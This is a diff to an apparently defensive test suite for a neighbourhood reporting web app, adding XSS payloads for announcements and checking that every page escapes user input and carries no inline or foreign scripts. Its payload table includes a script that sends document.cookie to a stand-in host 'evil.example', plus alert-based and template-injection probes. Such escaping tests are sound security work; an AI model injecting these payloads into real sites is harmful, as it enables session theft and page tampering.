@@ -30,6 +30,8 @@ PAYLOADS = {
     "note": "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
     "transition_note": '<a href="javascript:alert(5)">xem</a>',
     "rating_comment": "<style>body{display:none}</style>{{ 7*7 }}",
+    "announcement_title": "<script>alert('tin')</script> Cúp nước",
+    "announcement_body": "<img src=x onmouseover=alert(6)> Khu phố 3 cúp nước từ 8 giờ",
 }
 DANGEROUS = re.compile(r"<(script|img|svg|iframe|b|a|style)[\s>]", re.IGNORECASE)
 
@@ -91,6 +93,8 @@ async def test_pages_have_no_inline_script_and_no_foreign_assets(client: httpx.A
     for route in routes:
         r = await client.get(route.path)
         assert r.status_code == 200, route.path
+        if not r.headers["content-type"].startswith("text/html"):
+            continue  # feeds and documents link wherever their format says, they are not pages
         for tag in re.findall(r"<script\b[^>]*>", r.text):
             src = re.search(r'src="([^"]+)"', tag)
             assert src is not None, (route.path, tag)
@@ -299,7 +303,13 @@ async def test_every_page_escapes_what_people_typed(
     client: httpx.AsyncClient, app: Any, hostile_report: dict[str, Any]
 ) -> None:
     report = hostile_report["report"]
-    fill = {"report_id": report["id"], "code": report["tracking_code"]}
+    news = await client.post(
+        "/api/v1/announcements",
+        json={"title": PAYLOADS["announcement_title"], "body": PAYLOADS["announcement_body"]},
+        headers=hostile_report["coordinator"],
+    )
+    assert news.status_code == 201, news.text
+    fill = {"report_id": report["id"], "code": report["tracking_code"], "announcement_id": news.json()["id"]}
     viewers = {"public": {}, **{k: hostile_report[k] for k in ("resident", "officer", "coordinator")}}
     pages = 0
     for route in _html_get_routes(app):
